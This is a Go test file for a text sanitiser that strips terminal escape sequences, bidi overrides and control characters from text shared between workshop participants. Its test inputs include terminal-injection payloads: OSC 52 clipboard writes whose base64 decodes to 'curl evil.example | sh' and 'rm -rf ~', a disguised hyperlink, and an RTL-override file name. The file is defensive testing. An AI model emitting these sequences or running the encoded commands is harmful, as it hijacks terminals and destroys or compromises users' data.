package inquiry

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// terminalAttacks are texts someone might type or paste to take over the
// terminals of everyone else in a workshop, with what must reach them.
var terminalAttacks = []struct {
	name, in, want string
}{
	{"OSC 52 clipboard write", "hi\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07there", "hithere"},
	{"OSC 52 ended by ST", "hi\x1b]52;c;cm0gLXJmIH4=\x1b\\there", "hithere"},
	{"OSC 0 window title", "\x1b]0;You have been logged out\x07Welcome", "Welcome"},
	{"OSC 8 hyperlink", "see \x1b]8;;https://evil.example/\x1b\\the report\x1b]8;;\x1b\\ here", "see the report here"},
	{"unterminated OSC swallows the rest", "ok\x1b]0;title without end", "ok"},
	{"CSI screen clear and home", "\x1b[2J\x1b[Hcleared", "cleared"},
	{"CSI cursor movement", "up\x1b[3Adown\x1b[10;20Hthere", "updownthere"},
	{"CSI colour", "\x1b[31;1mred\x1b[0m", "red"},
	{"CSI private mode (hide cursor)", "a\x1b[?25lb", "ab"},
	{"CSI cut short by a newline", "a\x1b[12\nb", "a\nb"},
	{"DCS", "\x1bPq#0;2;0;0;0#0~~@@vv\x1b\\after", "after"},
	{"APC and PM", "\x1b_hidden\x1b\\a\x1b^private\x1b\\b", "ab"},
	{"two-byte escape (reset)", "a\x1bcb", "ab"},
	{"charset switch", "a\x1b(0qqq\x1b(Bb", "aqqqb"},
	{"lone ESC at the end", "text\x1b", "text"},
	{"8-bit C1 CSI", "a\u009b2Jb", "ab"},
	{"8-bit C1 OSC ended by C1 ST", "a\u009d0;title\u009cb", "ab"},
	{"8-bit C1 DCS", "a\u0090q#0\u009cb", "ab"},
	{"raw 0x9b byte (invalid UTF-8)", "a\x9b2Jb", "a\uFFFD2Jb"},
	{"bidi override", "invoice\u202Efdp.exe", "invoicefdp.exe"},
	{"bidi isolates and marks", "a\u2066b\u2069c\u200Fd\u061Ce", "abcde"},
	{"invalid UTF-8", "caf\xe9 \xff\xfe", "caf\uFFFD \uFFFD"},
	{"NUL", "a\x00b", "ab"},
	{"DEL", "a\x7fb", "ab"},
	{"backspace overwrite", "safe\b\b\b\bevil", "safeevil"},
	{"bell", "ding\x07", "ding"},
	{"CRLF", "line one\r\nline two", "line one\nline two"},
	{"lone CR cannot overwrite a line", "innocent\rEVIL", "innocent\nEVIL"},
	{"Unicode line separators", "a\u2028b\u2029c", "a\nb\nc"},
	{"tab", "a\tb", "a b"},
	{"tag characters", "a\U000E0041\U000E0042b", "ab"},
	{"byte-order mark", "\uFEFFhello", "hello"},
	{"plain text untouched", "Tenants' forum: 3 meetings, 40+ people!\nNext: May.", "Tenants' forum: 3 meetings, 40+ people!\nNext: May."},
	{"other scripts and emoji untouched", "Gàidhlig, ελληνικά, 🌳🏠", "Gàidhlig, ελληνικά, 🌳🏠"},
}

func TestCleanTextDisarmsTerminalAttacks(t *testing.T) {
	for _, c := range terminalAttacks {
		t.Run(c.name, func(t *testing.T) {
			if got := CleanText(c.in); got != c.want {
				t.Errorf("CleanText(%q) = %q, want %q", c.in, got, c.want)
			}
		})
	}
}

func TestCleanLineMakesOneTrimmedLine(t *testing.T) {
	cases := []struct{ in, want string }{
		{"  Alex  ", "Alex"},
		{"Alex\nSmith", "Alex Smith"},
		{"Alex\r\nSmith", "Alex Smith"},
		{"\x1b]0;x\x07Alex\x1b[2J", "Alex"},
		{"\u202EAlex\u00a0", "Alex"},
		{"\n\n", ""},
	}
	for _, c := range cases {
		if got := CleanLine(c.in); got != c.want {
			t.Errorf("CleanLine(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// unsafeRune reports a rune that must never reach another terminal. It is
// written out here rather than taken from sanitise.go, so the fuzzer checks
// the cleaner against an independent statement of the rule.
func unsafeRune(r rune) bool {
	switch {
	case r == '\n':
		return false
	case r < 0x20 || r == 0x7f:
		return true // C0 controls (ESC among them) and DEL
	case r >= 0x80 && r <= 0x9f:
		return true // C1 controls
	case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x200e, r == 0x200f, r == 0x061c:
		return true // bidirectional controls
	case r == 0x2028 || r == 0x2029:
		return true // line separators some terminals do not break on
	}
	return false
}

func FuzzCleanText(f *testing.F) {
	for _, c := range terminalAttacks {
		f.Add(c.in)
	}
	f.Add(strings.Repeat("\x1b[", 50) + "x")
	f.Add("\x1b]\x1b]\x1b\\\x07")
	f.Fuzz(func(t *testing.T, s string) {
		clean := CleanText(s)
		if !utf8.ValidString(clean) {
			t.Fatalf("CleanText(%q) = %q, not valid UTF-8", s, clean)
		}
		for _, r := range clean {
			if unsafeRune(r) {
				t.Fatalf("CleanText(%q) = %q, still holds %U", s, clean, r)
			}
		}
		if again := CleanText(clean); again != clean {
			t.Fatalf("CleanText is not idempotent on %q: %q then %q", s, clean, again)
		}
		line := CleanLine(s)
		if strings.ContainsRune(line, '\n') {
			t.Fatalf("CleanLine(%q) = %q, has a newline", s, line)
		}
		if again := CleanLine(line); again != line {
			t.Fatalf("CleanLine is not idempotent on %q: %q then %q", s, line, again)
		}
		if RuneCount(clean) > RuneCount(s) {
			t.Fatalf("CleanText(%q) = %q grew the text", s, clean)
		}
	})
}

func TestRuneCountCountsCharactersAsPeopleSeeThem(t *testing.T) {
	for _, tc := range []struct {
		text string
		want int
	}{
		{"", 0},
		{"plain words", 11},
		{"café", 4},
		{"cafe\u0301", 4}, // e and a combining acute: one character
		{"I ❤️ it", 6},
		{"👨‍👩‍👧👨‍👩‍👧 abc", 6},
		{"🏴󠁧󠁢󠁳󠁣󠁴󠁿", 1},
		{"川口", 2},
		// Accents stacked on one letter count by their code points, eight
		// to a character, so a limit in characters still bounds bytes.
		{"a" + strings.Repeat("\u0301", 23), 3},
	} {
		if got := RuneCount(tc.text); got != tc.want {
			t.Errorf("RuneCount(%q) = %d, want %d", tc.text, got, tc.want)
		}
	}
}
